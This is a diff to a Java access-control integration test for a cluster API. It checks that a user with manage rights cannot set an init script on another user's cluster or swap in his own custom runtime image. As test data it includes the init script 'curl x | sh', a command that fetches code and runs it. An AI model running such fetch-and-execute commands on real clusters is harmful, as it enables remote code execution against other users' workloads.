@@ -112,6 +112,38 @@ class AccessControlIT extends ApiIntegrationTest {
     assertThat(desiredState(id)).isEqualTo("STOPPED");
 
     share(id, ALICE, "user", "bob@example.com", "can_manage");
+    // What runs in alice's pods stays hers to choose: not an init script of bob's, nor an image
+    // bob registered for himself.
+    String bobsEdit =
+        ClusterRequests.quickStart(unique("acl-edit"))
+            .replace("\"user@example.com\"", "\"alice@example.com\"")
+            .replace("\"start_cluster\": true", "\"start_cluster\": false");
+    assertForbidden(
+        api.put(
+            "/cluster/" + id,
+            bobsEdit.replace(
+                "\"tags\": [\"demo\"],",
+                "\"tags\": [\"demo\"], \"advance_config\": {\"init_script\": \"curl x | sh\"},"),
+            BOB),
+        "only its owner (alice@example.com) and admins may change it");
+    String bobsRuntime = unique("BobRt");
+    Api.Response registered =
+        api.post(
+            "/runtime/v2/create",
+            "{\"runtime\": \""
+                + bobsRuntime
+                + "\", \"class\": \"CUSTOM\", \"image\": \"registry.example.com/bob/"
+                + bobsRuntime.toLowerCase()
+                + ":2.37.0\", \"user\": \"bob@example.com\"}",
+            BOB);
+    assertThat(registered.status()).as(registered.raw()).isEqualTo(200);
+    assertForbidden(
+        api.put(
+            "/cluster/" + id,
+            bobsEdit.replace("\"runtime\": \"0.0\"", "\"runtime\": \"" + bobsRuntime + "\""),
+            BOB),
+        "is a CUSTOM runtime of bob@example.com");
+    assertThat(api.get("/cluster/" + id, ALICE).data().get("runtime").asString()).isEqualTo("0.0");
     Api.Response edit =
         api.put(
             "/cluster/" + id,
